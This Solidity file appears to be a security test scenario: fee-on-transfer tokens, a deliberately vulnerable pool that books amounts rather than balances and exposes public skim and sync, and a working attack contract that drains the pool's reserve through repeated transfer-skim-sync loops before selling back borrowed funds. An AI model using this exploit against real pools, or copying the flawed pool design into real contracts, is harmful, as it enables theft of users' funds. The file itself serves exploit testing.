// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Keeps one per cent of what is moved.
contract TaxedToken is Token {
    constructor() Token("TAX", 18) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 tax = amount / 100;
        super._move(from, to, amount - tax);
        _burn(from, tax);
    }
}

/// Takes two per cent from the payer, on top of what he pays.
contract DebitToken is Token {
    constructor() Token("DEBIT", 18) {}

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        _burn(from, amount / 50);
    }
}

/// A pool that books what it pays, not what paying costs it.
contract BookPool {
    Token public immutable taxed;
    IERC20 public immutable usd;
    uint256 public bookTaxed;
    uint256 public bookUsd;

    event Traded(address indexed who, bool sold, uint256 paid, uint256 got);

    constructor(Token taxed_, IERC20 usd_) {
        (taxed, usd) = (taxed_, usd_);
    }

    function sell(uint256 amount) external {
        uint256 out = amount * 997 * bookUsd / (bookTaxed * 1000 + amount * 997);
        taxed.transferFrom(msg.sender, address(this), amount);
        (bookTaxed, bookUsd) = (bookTaxed + amount, bookUsd - out);
        usd.transfer(msg.sender, out);
        emit Traded(msg.sender, true, amount, out);
    }

    function buy(uint256 amount) external {
        uint256 out = amount * 997 * bookTaxed / (bookUsd * 1000 + amount * 997);
        usd.transferFrom(msg.sender, address(this), amount);
        (bookTaxed, bookUsd) = (bookTaxed - out, bookUsd + amount);
        taxed.transfer(msg.sender, out);
        emit Traded(msg.sender, false, amount, out);
    }

    function skim(address to) external {
        taxed.transfer(to, taxed.balanceOf(address(this)) - bookTaxed);
    }

    function sync() external {
        (bookTaxed, bookUsd) = (taxed.balanceOf(address(this)), usd.balanceOf(address(this)));
    }
}

contract FeeOnTransferScene is Scene {
    Token public usd;
    DebitToken public taxed = new DebitToken();
    BookPool public pool;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(taxed), "DEBIT", 18, 1e6);
        pool = new BookPool(taxed, IERC20(address(usd)));
        usd.mint(address(pool), 1_500_000e18);
        taxed.mint(address(pool), 1_500_000e18);
        pool.sync();
        _protect(address(pool));
        _loan(IERC20(address(usd)), 6_000_000e18);
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 100_000e18, address(pool));
        _arm(taxed, users, 100_000e18, address(pool));
    }

    function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 amount = _amount(dice, 10e18, 1_500e18);
        if (dice >> 200 & 15 == 0) return (address(pool), 0, abi.encodeCall(BookPool.sync, ()));
        if (pool.bookTaxed() < pool.bookUsd()) return (address(pool), 0, abi.encodeCall(BookPool.sell, (amount)));
        return (address(pool), 0, abi.encodeCall(BookPool.buy, (amount)));
    }
}

contract FeeOnTransferAttack is Attack {
    BookPool private immutable pool;

    constructor(FeeOnTransferScene scene) Attack(scene) {
        pool = scene.pool();
    }

    /// Buys most of it, lets the pool pay the tax until little is left of the rest, and sells back.
    function _act(uint256, uint256 index, uint256) internal override {
        if (index > 0) return;
        Token taxed = pool.taxed();
        loanToken.approve(address(pool), type(uint256).max);
        taxed.approve(address(pool), type(uint256).max);
        pool.buy(loanAmount);
        pool.sync();
        uint256 bite = taxed.balanceOf(address(this)) / 2;
        for (uint256 i; i < 40 && pool.bookTaxed() > bite / 20; i++) {
            taxed.transfer(address(pool), bite);
            pool.skim(address(this));
            pool.sync();
        }
        pool.sell(taxed.balanceOf(address(this)) * 98 / 100);
    }
}
